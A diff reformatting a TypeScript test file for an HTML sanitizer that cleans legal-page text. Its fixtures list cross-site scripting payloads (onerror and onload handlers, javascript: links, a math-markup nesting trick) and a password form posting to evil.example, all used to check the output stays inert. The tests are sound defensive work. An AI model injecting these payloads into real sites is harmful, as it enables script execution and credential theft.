@@ -16,7 +16,10 @@ const payloads: readonly (readonly [string, string])[] = [
   ['a picture that fails', `<img src=x onerror="${traps}">`],
   ['a drawing', `<svg onload="${traps}"><script>${traps}</script></svg>`],
   ['a link inside a drawing', `<svg><a xlink:href="javascript:${traps}"><text>x</text></a></svg>`],
-  ['a formula that hides markup', `<math><mtext><table><mglyph><style><img src=x onerror="${traps}"></style></mglyph></table></mtext></math>`],
+  [
+    'a formula that hides markup',
+    `<math><mtext><table><mglyph><style><img src=x onerror="${traps}"></style></mglyph></table></mtext></math>`,
+  ],
   ['a form', '<form action="https://evil.example"><input name="password"><button>OK</button></form>'],
   ['a button that sends elsewhere', '<button formaction="https://evil.example">OK</button>'],
   ['a link to a script', `<a href="javascript:${traps}">x</a>`],
@@ -48,23 +51,31 @@ describe('a legal text (spec §2 legal-screens)', () => {
   it.each(payloads)('is inert when it carries %s', (_what, html) => {
     const shown = left(`<p>Avant</p>${html}`);
     expect(shown).toMatch(/^<p>Avant<\/p>/);
-    expect(shown).not.toMatch(/<(?!\/?(?:p|a|b|h2|table|tbody)\b)|\son\w+=|script|evil|style|class=|srcdoc|"(?:content|portal)"|href/i);
+    expect(shown).not.toMatch(
+      /<(?!\/?(?:p|a|b|h2|table|tbody)\b)|\son\w+=|script|evil|style|class=|srcdoc|"(?:content|portal)"|href/i,
+    );
     expect(window).not.toHaveProperty('hacked');
   });
 
   it('keeps the anchors of another hand, and puts its title below that of the page', () => {
-    expect(left('<h1 id="general" lang="fr">Politique</h1><article id="hub"><h5 id="contact">Un</h5></article>'))
-      .toBe('<h2 id="general" lang="fr">Politique</h2><article id="hub"><h5 id="contact">Un</h5></article>');
+    expect(left('<h1 id="general" lang="fr">Politique</h1><article id="hub"><h5 id="contact">Un</h5></article>')).toBe(
+      '<h2 id="general" lang="fr">Politique</h2><article id="hub"><h5 id="contact">Un</h5></article>',
+    );
   });
 
   it('keeps its words, titles, lists, tables and honest links', () => {
-    const html = '<h2 id="general">1. En bref</h2><p>Un <strong>mot</strong>, <a href="mailto:a@b.ca">une adresse</a>.</p><ul><li>Un</li></ul>'
-      + '<table><tbody><tr><th scope="row">Un</th><td>Deux</td></tr></tbody></table><a href="#general">haut</a><a href="https://exemple.ca">site</a>';
+    const html =
+      '<h2 id="general">1. En bref</h2><p>Un <strong>mot</strong>, <a href="mailto:a@b.ca">une adresse</a>.</p><ul><li>Un</li></ul>' +
+      '<table><tbody><tr><th scope="row">Un</th><td>Deux</td></tr></tbody></table><a href="#general">haut</a><a href="https://exemple.ca">site</a>';
     expect(left(html)).toBe(html);
   });
 
   it('names its parts by their titles, whichever way the anchor is written', () => {
-    const html = '<h2 id="general">1. En bref</h2><h2><a name="hub">2. Le hub</a></h2><h2>Sans ancre</h2><h2 id="vide"></h2>';
-    expect(cleanLegalText(html).sections).toEqual([{ id: 'general', title: '1. En bref' }, { id: 'hub', title: '2. Le hub' }]);
+    const html =
+      '<h2 id="general">1. En bref</h2><h2><a name="hub">2. Le hub</a></h2><h2>Sans ancre</h2><h2 id="vide"></h2>';
+    expect(cleanLegalText(html).sections).toEqual([
+      { id: 'general', title: '1. En bref' },
+      { id: 'hub', title: '2. Le hub' },
+    ]);
   });
 });
